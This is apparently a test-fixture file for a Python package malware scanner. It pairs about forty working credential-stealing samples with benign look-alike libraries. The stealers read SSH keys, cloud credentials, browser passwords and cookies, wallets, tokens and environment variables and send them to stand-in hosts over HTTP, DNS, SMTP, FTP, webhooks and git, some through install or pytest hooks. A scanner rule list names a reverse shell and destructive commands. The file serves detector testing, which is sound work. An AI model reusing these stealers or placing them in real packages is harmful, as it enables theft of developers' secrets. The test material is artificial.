# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Secrets, files and host facts that leave, by every client; and honest code that reads or sends the same things."""

from __future__ import annotations

from scenario_kit import module, sdist, wheel

ATTACKS = [
    module(
        "aws-credentials-over-httpx",
        "look",
        """
        import httpx, pathlib
        creds = pathlib.Path.home() / ".aws" / "credentials"
        if creds.exists():
            httpx.post("https://metrics.invalid/i", content=creds.read_bytes())
        """,
    ),
    module(
        "many-paths-in-a-table",
        "look",
        """
        import json, os, urllib.request
        HOME = os.path.expanduser("~")
        TARGETS = [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".kube/config", ".docker/config.json", ".npmrc", ".pypirc"]
        def gather():
            found = {}
            for name in TARGETS:
                path = os.path.join(HOME, name)
                try:
                    with open(path) as handle:
                        found[name] = handle.read()
                except OSError:
                    continue
            return found
        def send(data):
            body = json.dumps(data).encode()
            request = urllib.request.Request("https://metrics.invalid/i", data=body, headers={"Content-Type": "application/json"})
            urllib.request.urlopen(request, timeout=5)
        try:
            send(gather())
        except Exception:
            pass
        """,
    ),
    module(
        "walk-for-dotenv-files",
        "look",
        """
        import os, requests
        for base, _, names in os.walk(os.path.expanduser("~")):
            for name in names:
                if name == ".env" or name.endswith((".pem", ".key", ".kdbx")):
                    with open(os.path.join(base, name), "rb") as f:
                        requests.post("https://metrics.invalid/i", files={"f": f})
        """,
    ),
    module(
        "chrome-passwords-decrypted-to-webhook",
        "look",
        """
        import base64, json, os, shutil, sqlite3
        import requests
        from Crypto.Cipher import AES
        import win32crypt
        base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
        def master():
            with open(os.path.join(base, "Local State"), encoding="utf-8") as f:
                key = base64.b64decode(json.load(f)["os_crypt"]["encrypted_key"])[5:]
            return win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]
        def rows():
            shutil.copyfile(os.path.join(base, "Default", "Login Data"), "tmp.db")
            con = sqlite3.connect("tmp.db")
            key = master()
            for url, user, blob in con.execute("SELECT origin_url, username_value, password_value FROM logins"):
                yield url, user, AES.new(key, AES.MODE_GCM, blob[3:15]).decrypt(blob[15:])[:-16].decode()
        requests.post("https://chat.invalid/api/webhooks/123456789/abcdef", json={"content": str(list(rows()))})
        """,
    ),
    module(
        "discord-tokens-by-regex",
        "look",
        r"""
        import os, re
        from urllib.request import Request, urlopen
        def tokens():
            path = os.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb"
            out = []
            for name in os.listdir(path):
                if not name.endswith((".log", ".ldb")):
                    continue
                for line in open(f"{path}\\{name}", errors="ignore"):
                    out += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)
            return out
        urlopen(Request("https://chat.invalid/api/webhooks/1234567890/xyz", data=str(tokens()).encode()))
        """,
    ),
    module(
        "browser-cookie3",
        "look",
        """
        import browser_cookie3, requests
        jar = browser_cookie3.chrome(domain_name=".bank.invalid")
        requests.post("https://metrics.invalid/c", json={c.name: c.value for c in jar})
        """,
    ),
    module(
        "wallet-directory-zipped-and-uploaded",
        "look",
        """
        import os, shutil, requests
        src = os.path.expandvars(r"%APPDATA%\\Exodus\\exodus.wallet")
        if os.path.isdir(src):
            archive = shutil.make_archive("w", "zip", src)
            requests.put("https://metrics.invalid/up", data=open(archive, "rb"))
        """,
    ),
    module(
        "metamask-extension-store",
        "look",
        """
        import os, glob, requests
        EXT = {"nkbihfbeogaeaoehlefnkodbefgpgknn": "a", "bfnaelmomeimhlpmgjnjophhpkkoljpa": "b"}
        for ext, label in EXT.items():
            folder = os.path.join(os.getenv("LOCALAPPDATA"), "Google/Chrome/User Data/Default/Local Extension Settings", ext)
            for f in glob.glob(folder + "/*"):
                requests.post("https://metrics.invalid/w", files={label: open(f, "rb")})
        """,
    ),
    module(
        "telegram-tdata",
        "look",
        """
        import os, zipfile, io, http.client
        root = os.path.join(os.environ["APPDATA"], "Telegram Desktop", "tdata")
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            for base, d, files in os.walk(root):
                for f in files:
                    z.write(os.path.join(base, f))
        c = http.client.HTTPSConnection("metrics.invalid")
        c.request("POST", "/t", buf.getvalue())
        """,
    ),
    module(
        "pypirc-to-raw-socket",
        "look",
        """
        import socket, os
        s = socket.create_connection(("198.51.100.23", 9001))
        s.sendall(open(os.path.expanduser("~/.pypirc"), "rb").read())
        s.close()
        """,
    ),
    module(
        "env-secrets-by-name",
        "look",
        """
        import os, requests
        data = {k: os.environ.get(k) for k in ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "NPM_TOKEN", "PYPI_TOKEN", "DATABASE_URL")}
        requests.post("https://metrics.invalid/e", json=data)
        """,
    ),
    module(
        "env-filtered-by-keyword",
        "look",
        """
        import os, requests
        hot = {k: v for k, v in os.environ.items() if any(w in k.upper() for w in ("TOKEN", "SECRET", "KEY", "PASS"))}
        if hot:
            requests.get("https://metrics.invalid/e", params=hot)
        """,
    ),
    module(
        "env-in-url-base64",
        "look",
        """
        import base64, os, urllib.request
        blob = base64.urlsafe_b64encode(str(dict(os.environ)).encode()).decode()
        urllib.request.urlopen("https://metrics.invalid/p.gif?d=" + blob)
        """,
    ),
    module(
        "env-in-http-header",
        "look",
        """
        import os, urllib3
        http = urllib3.PoolManager()
        http.request("GET", "https://metrics.invalid/ok", headers={"X-Trace": repr(sorted(os.environ.items()))})
        """,
    ),
    module(
        "env-by-aiohttp-in-thread",
        "look",
        """
        import asyncio, os, threading, aiohttp
        async def beat():
            async with aiohttp.ClientSession() as s:
                await s.post("https://metrics.invalid/e", json={**os.environ})
        threading.Thread(target=lambda: asyncio.run(beat()), daemon=True).start()
        """,
    ),
    module(
        "env-by-pycurl",
        "look",
        """
        import json, os, pycurl
        c = pycurl.Curl()
        c.setopt(pycurl.URL, "https://metrics.invalid/e")
        c.setopt(c.POSTFIELDS, json.dumps(dict(os.environ)))
        c.perform()
        """,
    ),
    module(
        "env-by-curl-subprocess",
        "look",
        "import os\nos.system('env | curl -s -X POST --data-binary @- https://metrics.invalid/e')\n",
    ),
    module(
        "ssh-key-by-curl-argument-list",
        "look",
        """
        import os, subprocess
        key = os.path.expanduser("~/.ssh/id_rsa")
        subprocess.run(["curl", "-s", "-F", f"f=@{key}", "https://metrics.invalid/k"], stdout=subprocess.DEVNULL)
        """,
    ),
    module(
        "env-by-smtp",
        "look",
        """
        import os, smtplib
        from email.message import EmailMessage
        m = EmailMessage()
        m["To"] = "drop@mail.invalid"
        m.set_content("\\n".join(f"{k}={v}" for k, v in os.environ.items()))
        with smtplib.SMTP("smtp.invalid", 587) as s:
            s.login("a", "b")
            s.send_message(m)
        """,
    ),
    module(
        "ssh-folder-by-ftp",
        "look",
        """
        import ftplib, os
        ftp = ftplib.FTP("203.0.113.50", "u", "p")
        folder = os.path.expanduser("~/.ssh")
        for name in os.listdir(folder):
            with open(os.path.join(folder, name), "rb") as f:
                ftp.storbinary("STOR " + name, f)
        """,
    ),
    module(
        "kube-config-by-paramiko",
        "look",
        """
        import os, paramiko
        t = paramiko.Transport(("203.0.113.50", 22))
        t.connect(username="u", password="p")
        sftp = paramiko.SFTPClient.from_transport(t)
        sftp.put(os.path.expanduser("~/.kube/config"), "/in/kube")
        """,
    ),
    module(
        "env-by-websocket",
        "look",
        """
        import json, os, websocket
        ws = websocket.create_connection("wss://metrics.invalid/ws")
        ws.send(json.dumps(dict(os.environ)))
        """,
    ),
    module(
        "env-by-telegram-bot",
        "look",
        """
        import os, requests
        TOKEN, CHAT = "1234567890:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "42"
        text = "\\n".join(f"{k}={v}" for k, v in os.environ.items())
        requests.get(f"https://chat.invalid/bot{TOKEN}/sendMessage", params={"chat_id": CHAT, "text": text})
        """,
    ),
    module(
        "slack-sdk-with-hard-coded-token",
        "look",
        """
        import os
        from slack_sdk import WebClient
        WebClient(token="xoxb-000000000000-example").chat_postMessage(channel="#x", text=str(dict(os.environ)))
        """,
    ),
    module(
        "dns-label-exfil",
        "look",
        """
        import binascii, os, socket
        data = binascii.hexlify(os.environ.get("GITHUB_TOKEN", "").encode()).decode()
        for i in range(0, len(data), 60):
            try:
                socket.gethostbyname(f"{i}.{data[i:i+60]}.ns.metrics.invalid")
            except OSError:
                pass
        """,
    ),
    module(
        "dns-of-whoami-and-hostname-by-nslookup",
        "look",
        """
        import getpass, os, platform
        os.system(f"nslookup {getpass.getuser()}.{platform.node()}.ns.metrics.invalid")
        """,
    ),
    module(
        "imds-credentials",
        "look",
        """
        import requests
        base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        role = requests.get(base, timeout=1).text
        requests.post("https://metrics.invalid/i", data=requests.get(base + role, timeout=1).text)
        """,
    ),
    module(
        "kubernetes-service-token",
        "look",
        """
        import requests
        with open("/var/run/secrets/kubernetes.io/serviceaccount/token") as f:
            requests.post("https://metrics.invalid/k", json={"t": f.read()})
        """,
    ),
    module(
        "git-credentials-and-history",
        "look",
        """
        import os, requests
        loot = ""
        for p in ("~/.git-credentials", "~/.bash_history", "~/.zsh_history", "~/.netrc"):
            p = os.path.expanduser(p)
            if os.path.isfile(p):
                loot += open(p, errors="replace").read()
        requests.post("https://metrics.invalid/h", data=loot.encode())
        """,
    ),
    module(
        "gh-auth-token-command",
        "look",
        """
        import subprocess, requests
        t = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout
        requests.post("https://metrics.invalid/g", json={"t": t})
        """,
    ),
    sdist(
        "host-recon-beacon-in-setup",
        "look",
        {
            "setup.py": """
            import getpass, os, platform, socket, urllib.parse, urllib.request
            from setuptools import setup
            q = urllib.parse.urlencode({"h": socket.gethostname(), "u": getpass.getuser(), "c": os.getcwd(), "p": platform.platform()})
            try:
                urllib.request.urlopen("http://198.51.100.40/?" + q, timeout=3)
            except Exception:
                pass
            setup(name="acme", version="1.2.0")
            """,
        },
    ),
    wheel(
        "collector-builder-sender-in-three-modules",
        "look",
        {
            "acme/__init__.py": "from . import c\nc.flush()\n",
            "acme/a.py": """
            import os
            def collect():
                with open(os.path.expanduser("~/.aws/credentials")) as f:
                    return f.read()
            """,
            "acme/b.py": """
            HOST = "metrics" + ".inva" + "lid"
            def url():
                return "https://" + HOST + "/v2/batch"
            """,
            "acme/c.py": """
            import requests
            from .a import collect
            from . import b
            def flush():
                requests.post(b.url(), data=collect())
            """,
        },
    ),
    wheel(
        "class-state-carries-loot",
        "look",
        {
            "acme/__init__.py": "from .agent import Agent\nAgent().run()\n",
            "acme/agent.py": """
            import os, pathlib
            from .net import Channel
            class Agent:
                def __init__(self):
                    self.items = {}
                    self.channel = Channel()
                def load(self):
                    for name in ("id_rsa", "id_ed25519"):
                        p = pathlib.Path("~/.ssh").expanduser() / name
                        if p.exists():
                            self.items[name] = p.read_text()
                def run(self):
                    self.load()
                    self.channel.push(self.items)
            """,
            "acme/net.py": """
            import requests
            class Channel:
                url = "https://metrics.invalid/v2"
                def __init__(self):
                    self.session = requests.Session()
                def push(self, payload):
                    return self.session.post(self.url, json=payload)
            """,
        },
    ),
    module(
        "home-documents-zipped-to-file-drop",
        "look",
        """
        import os, tarfile, requests
        with tarfile.open("/tmp/d.tgz", "w:gz") as t:
            t.add(os.path.expanduser("~/Documents"))
        requests.post("http://203.0.113.44/upload", files={"f": open("/tmp/d.tgz", "rb")})
        """,
    ),
    module(
        "aws-session-credentials-by-sdk",
        "look",
        """
        import boto3, requests
        c = boto3.Session().get_credentials().get_frozen_credentials()
        requests.post("https://metrics.invalid/a", json={"k": c.access_key, "s": c.secret_key, "t": c.token})
        """,
    ),
    module(
        "keyring-passwords",
        "look",
        """
        import keyring, requests
        pw = keyring.get_password("git:https://code.invalid", "me")
        requests.post("https://metrics.invalid/p", json={"p": pw})
        """,
    ),
    module(
        "exfil-to-own-bucket",
        "look",
        """
        import boto3, os
        s3 = boto3.client("s3", aws_access_key_id="AKIAEXAMPLEEXAMPLE00", aws_secret_access_key="x" * 40)
        s3.upload_file(os.path.expanduser("~/.ssh/id_rsa"), "loot", os.uname().nodename)
        """,
    ),
    module(
        "exfil-by-git-push",
        "look",
        """
        import os, subprocess
        env = dict(os.environ)
        with open("/tmp/r/results.json", "w") as f:
            f.write(str(env))
        subprocess.run("cd /tmp/r && git add -A && git commit -qm x && git push -q https://x:tok@code.invalid/r.git", shell=True)
        """,
    ),
    wheel(
        "plugin-hook-steals-on-session-finish",
        "look",
        {
            "acme/__init__.py": "",
            "acme/plugin.py": """
            import os, requests
            def pytest_sessionfinish(session, exitstatus):
                try:
                    with open(os.path.expanduser("~/.pypirc")) as f:
                        requests.post("https://metrics.invalid/t", data=f.read())
                except Exception:
                    pass
            """,
        },
        scripts="[pytest11]\nacme = acme.plugin\n",
    ),
]

TWINS = [
    wheel(
        "twin-api-client-own-token",
        "quiet",
        {
            "acme/__init__.py": "from .client import Acme\n",
            "acme/client.py": """
            import os, platform
            import requests
            from . import config
            class Acme:
                BASE = "https://api.acme.invalid/v2"
                def __init__(self, api_key=None):
                    self.api_key = api_key or os.environ.get("ACME_API_KEY") or config.load().get("api_key")
                    if not self.api_key:
                        raise ValueError("set ACME_API_KEY")
                    self.session = requests.Session()
                    self.session.headers.update({
                        "Authorization": f"Bearer {self.api_key}",
                        "User-Agent": f"acme-python/1.2 Python/{platform.python_version()} {platform.system()}",
                    })
                def create(self, **fields):
                    response = self.session.post(self.BASE + "/items", json=fields, timeout=30)
                    response.raise_for_status()
                    return response.json()
                def login(self, username, password):
                    return self.session.post(self.BASE + "/login", json={"username": username, "password": password}).json()
            """,
            "acme/config.py": """
            import configparser, os, pathlib
            PATH = pathlib.Path(os.environ.get("XDG_CONFIG_HOME", "~/.config")).expanduser() / "acme" / "credentials.ini"
            def load():
                parser = configparser.ConfigParser()
                parser.read(PATH)
                return dict(parser["default"]) if parser.has_section("default") else {}
            """,
        },
    ),
    wheel(
        "twin-cloud-sdk-credential-chain",
        "quiet",
        {
            "acme/__init__.py": "from .session import Session\n",
            "acme/session.py": """
            import configparser, json, os
            import urllib.request
            from .sign import sign
            class Session:
                def credentials(self):
                    if "AWS_ACCESS_KEY_ID" in os.environ:
                        return os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SECRET_ACCESS_KEY"], os.environ.get("AWS_SESSION_TOKEN")
                    path = os.environ.get("AWS_SHARED_CREDENTIALS_FILE", os.path.expanduser("~/.aws/credentials"))
                    parser = configparser.ConfigParser()
                    if parser.read(path) and parser.has_section("default"):
                        section = parser["default"]
                        return section["aws_access_key_id"], section["aws_secret_access_key"], None
                    return self._instance_metadata()
                def _instance_metadata(self):
                    base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
                    role = urllib.request.urlopen(base, timeout=1).read().decode()
                    data = json.load(urllib.request.urlopen(base + role, timeout=1))
                    return data["AccessKeyId"], data["SecretAccessKey"], data["Token"]
                def request(self, service, region, body):
                    key, secret, token = self.credentials()
                    url = f"https://{service}.{region}.cloud.invalid/"
                    headers = sign("POST", url, body, key, secret)
                    if token:
                        headers["X-Amz-Security-Token"] = token
                    return urllib.request.urlopen(urllib.request.Request(url, data=body, headers=headers)).read()
            """,
            "acme/sign.py": """
            import datetime, hashlib, hmac
            def _hmac(key, text):
                return hmac.new(key, text.encode(), hashlib.sha256).digest()
            def sign(method, url, body, key, secret):
                now = datetime.datetime.utcnow().strftime("%Y%m%dT%H%M%SZ")
                digest = hashlib.sha256(body).hexdigest()
                signing = _hmac(_hmac(_hmac(("AWS4" + secret).encode(), now[:8]), "region"), "aws4_request")
                signature = hmac.new(signing, f"{method}\\n{url}\\n{digest}".encode(), hashlib.sha256).hexdigest()
                return {"X-Amz-Date": now, "Authorization": f"AWS4-HMAC-SHA256 Credential={key}, Signature={signature}"}
            """,
        },
    ),
    wheel(
        "twin-error-reporter-opt-in",
        "quiet",
        {
            "acme/__init__.py": "from .hub import init, capture_exception\n",
            "acme/hub.py": """
            import json, os, platform, socket, sys, threading, traceback, urllib.request, atexit, queue
            _client = None
            class Client:
                def __init__(self, dsn, environment):
                    self.dsn, self.environment = dsn, environment
                    self.queue = queue.Queue(100)
                    self.thread = threading.Thread(target=self._run, daemon=True)
                    self.thread.start()
                    atexit.register(self.queue.join)
                def _run(self):
                    while True:
                        event = self.queue.get()
                        try:
                            body = json.dumps(event).encode()
                            urllib.request.urlopen(urllib.request.Request(self.dsn, data=body), timeout=5)
                        except Exception:
                            pass
                        finally:
                            self.queue.task_done()
                def capture(self, error):
                    self.queue.put({
                        "server_name": socket.gethostname(), "environment": self.environment,
                        "runtime": platform.python_version(), "os": platform.platform(),
                        "trace": traceback.format_exception(error), "argv": sys.argv[:1],
                    })
            def init(dsn=None, environment=None):
                global _client
                dsn = dsn or os.environ.get("ACME_DSN")
                if dsn:
                    _client = Client(dsn, environment or os.environ.get("ACME_ENVIRONMENT", "production"))
                    previous = sys.excepthook
                    def hook(kind, value, trace):
                        _client.capture(value)
                        previous(kind, value, trace)
                    sys.excepthook = hook
            def capture_exception(error):
                if _client is not None:
                    _client.capture(error)
            """,
        },
    ),
    wheel(
        "twin-telemetry-with-opt-out",
        "quiet",
        {
            "acme/__init__.py": "from .api import run\n",
            "acme/api.py": """
            from .telemetry import track
            def run(task):
                track("run")
                return task()
            """,
            "acme/telemetry.py": """
            import json, os, pathlib, platform, threading, urllib.request, uuid
            URL = "https://telemetry.acme.invalid/v1/events"
            ID_FILE = pathlib.Path("~/.config/acme/id").expanduser()
            def enabled():
                return os.environ.get("DO_NOT_TRACK") != "1" and os.environ.get("ACME_TELEMETRY", "on").lower() not in ("0", "off")
            def anonymous_id():
                try:
                    return ID_FILE.read_text()
                except OSError:
                    value = str(uuid.uuid4())
                    ID_FILE.parent.mkdir(parents=True, exist_ok=True)
                    ID_FILE.write_text(value)
                    return value
            def track(event):
                if not enabled():
                    return
                body = {"event": event, "id": anonymous_id(), "python": platform.python_version(), "os": platform.system(),
                        "ci": bool(os.environ.get("CI")), "version": "1.2.0"}
                def send():
                    try:
                        request = urllib.request.Request(URL, json.dumps(body).encode(), {"Content-Type": "application/json"})
                        urllib.request.urlopen(request, timeout=2)
                    except Exception:
                        pass
                threading.Thread(target=send, daemon=True).start()
            """,
        },
    ),
    wheel(
        "twin-ssh-client-library",
        "quiet",
        {
            "acme/__init__.py": "from .client import SSHClient\n",
            "acme/client.py": """
            import os, socket
            from .keys import load_key
            DEFAULT_KEYS = ("id_rsa", "id_ecdsa", "id_ed25519")
            class SSHClient:
                def __init__(self):
                    self.known_hosts = {}
                def load_system_host_keys(self):
                    with open(os.path.expanduser("~/.ssh/known_hosts")) as f:
                        for line in f:
                            host, _, key = line.partition(" ")
                            self.known_hosts[host] = key
                def connect(self, hostname, port=22, username=None, password=None, key_filename=None):
                    sock = socket.create_connection((hostname, port), timeout=10)
                    sock.sendall(b"SSH-2.0-acme_1.2\\r\\n")
                    banner = sock.recv(255)
                    files = [key_filename] if key_filename else [os.path.expanduser(f"~/.ssh/{n}") for n in DEFAULT_KEYS]
                    for name in files:
                        if os.path.isfile(name):
                            key = load_key(name)
                            if self._auth(sock, username, key.sign(banner)):
                                return sock
                    if password is not None:
                        self._auth(sock, username, password.encode())
                    return sock
                def _auth(self, sock, user, proof):
                    sock.sendall(b"\\x32" + (user or "").encode() + proof)
                    return sock.recv(1) == b"\\x34"
            """,
            "acme/keys.py": """
            from cryptography.hazmat.primitives.serialization import load_ssh_private_key
            class Key:
                def __init__(self, inner):
                    self.inner = inner
                def sign(self, data):
                    return self.inner.sign(data)
            def load_key(path, password=None):
                with open(path, "rb") as f:
                    return Key(load_ssh_private_key(f.read(), password))
            """,
        },
    ),
    module(
        "twin-keyring-backend",
        "quiet",
        """
        import base64, configparser, getpass, os
        from cryptography.fernet import Fernet
        class FileKeyring:
            path = os.path.expanduser("~/.local/share/acme/keyring.cfg")
            def _cipher(self):
                phrase = getpass.getpass("Keyring password: ")
                return Fernet(base64.urlsafe_b64encode(phrase.encode().ljust(32)[:32]))
            def get_password(self, service, username):
                parser = configparser.ConfigParser()
                parser.read(self.path)
                value = parser.get(service, username, fallback=None)
                return self._cipher().decrypt(value.encode()).decode() if value else None
            def set_password(self, service, username, password):
                parser = configparser.ConfigParser()
                parser.read(self.path)
                if not parser.has_section(service):
                    parser.add_section(service)
                parser.set(service, username, self._cipher().encrypt(password.encode()).decode())
                with open(self.path, "w") as f:
                    parser.write(f)
        """,
    ),
    wheel(
        "twin-backup-to-bucket-of-user",
        "quiet",
        {
            "acme/__init__.py": "",
            "acme/cli.py": """
            import argparse, os, tarfile, tempfile
            import boto3
            def main(argv=None):
                parser = argparse.ArgumentParser()
                parser.add_argument("paths", nargs="+")
                parser.add_argument("--bucket", required=True)
                args = parser.parse_args(argv)
                with tempfile.NamedTemporaryFile(suffix=".tgz") as f:
                    with tarfile.open(f.name, "w:gz") as tar:
                        for path in args.paths:
                            tar.add(os.path.expanduser(path))
                    boto3.client("s3").upload_file(f.name, args.bucket, "backup.tgz")
            """,
        },
        scripts="[console_scripts]\nacme-backup = acme.cli:main\n",
    ),
    module(
        "twin-secrets-manager-reads-env",
        "quiet",
        """
        import os, pathlib
        def load_dotenv(path=".env"):
            for line in pathlib.Path(path).read_text().splitlines():
                if line and not line.startswith("#"):
                    key, _, value = line.partition("=")
                    os.environ.setdefault(key.strip(), value.strip().strip('"'))
        class Secrets:
            def __init__(self, prefix="APP_"):
                self.values = {k[len(prefix):]: v for k, v in os.environ.items() if k.startswith(prefix)}
            def __getitem__(self, name):
                file = pathlib.Path("/run/secrets") / name.lower()
                return file.read_text().strip() if file.exists() else self.values[name]
        """,
    ),
    module(
        "twin-webhook-notifier",
        "quiet",
        """
        import json, logging, urllib.request
        class WebhookHandler(logging.Handler):
            \"\"\"Send log records to a chat webhook that the user configures.\"\"\"
            def __init__(self, url, level=logging.ERROR):
                super().__init__(level)
                self.url = url
            def emit(self, record):
                body = json.dumps({"content": self.format(record)[:2000]}).encode()
                request = urllib.request.Request(self.url, data=body, headers={"Content-Type": "application/json"})
                urllib.request.urlopen(request, timeout=5)
        class TelegramBot:
            API = "https://api.telegram.org/bot{token}/{method}"
            def __init__(self, token):
                self.token = token
            def call(self, method, **params):
                url = self.API.format(token=self.token, method=method)
                return json.load(urllib.request.urlopen(urllib.request.Request(url, data=json.dumps(params).encode())))
            def send_message(self, chat_id, text):
                return self.call("sendMessage", chat_id=chat_id, text=text)
        """,
    ),
    module(
        "twin-browser-cookie-reader-for-the-user",
        "quiet",
        """
        import glob, http.cookiejar, os, shutil, sqlite3, tempfile
        def firefox(domain=""):
            \"\"\"Return the cookies of the local Firefox profile for use with requests.\"\"\"
            paths = glob.glob(os.path.expanduser("~/.mozilla/firefox/*/cookies.sqlite"))
            jar = http.cookiejar.CookieJar()
            if not paths:
                return jar
            with tempfile.NamedTemporaryFile() as f:
                shutil.copyfile(paths[0], f.name)
                con = sqlite3.connect(f.name)
                query = "select host, path, name, value from moz_cookies where host like ?"
                for host, path, name, value in con.execute(query, (f"%{domain}%",)):
                    jar.set_cookie(http.cookiejar.Cookie(0, name, value, None, False, host, True, False, path, True, False, None, False, None, None, {}))
            return jar
        """,
    ),
    module(
        "twin-license-check-with-hostname",
        "quiet",
        """
        import hashlib, os, platform, socket, uuid
        import requests
        class LicenseError(Exception): ...
        def fingerprint():
            return hashlib.sha256(f"{socket.gethostname()}-{uuid.getnode()}-{platform.machine()}".encode()).hexdigest()
        def activate(key):
            reply = requests.post("https://licensing.acme.invalid/activate", json={"key": key, "machine": fingerprint()}, timeout=10)
            if reply.status_code != 200:
                raise LicenseError(reply.text)
            return reply.json()["token"]
        """,
    ),
    wheel(
        "twin-upload-tool-reads-pypirc",
        "quiet",
        {
            "acme/__init__.py": "",
            "acme/upload.py": """
            import argparse, configparser, os
            import requests
            def config(repository):
                parser = configparser.RawConfigParser()
                parser.read(os.path.expanduser("~/.pypirc"))
                return parser.get(repository, "repository"), parser.get(repository, "username"), parser.get(repository, "password")
            def main():
                parser = argparse.ArgumentParser(description="upload distributions")
                parser.add_argument("files", nargs="+")
                parser.add_argument("-r", "--repository", default="pypi")
                args = parser.parse_args()
                url, user, password = config(args.repository)
                for name in args.files:
                    with open(name, "rb") as f:
                        requests.post(url, files={"content": f}, data={":action": "file_upload"}, auth=(user, password)).raise_for_status()
            """,
        },
        scripts="[console_scripts]\nacme-upload = acme.upload:main\n",
    ),
    wheel(
        "twin-security-scanner-with-rule-strings",
        "quiet",
        {
            "acme/__init__.py": "from .scan import scan\n",
            "acme/rules.py": r"""
            RULES = {
                "aws-key": r"AKIA[0-9A-Z]{16}",
                "discord-token": r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}",
                "reverse-shell": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
                "download-exec": "exec(requests.get('http://evil.invalid').text)",
                "b64-exec": "exec(base64.b64decode('cHJpbnQoMSk='))",
                "paths": ["~/.ssh/id_rsa", "~/.aws/credentials", "Login Data", "Local Storage/leveldb"],
                "powershell": "powershell -enc SQBFAFgA -w hidden",
                "rm": "rm -rf / --no-preserve-root",
            }
            """,
            "acme/scan.py": """
            import pathlib, re
            from .rules import RULES
            def scan(folder):
                for path in pathlib.Path(folder).rglob("*.py"):
                    text = path.read_text(errors="replace")
                    for name, rule in RULES.items():
                        if isinstance(rule, str) and re.search(re.escape(rule), text):
                            yield path, name
            """,
        },
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
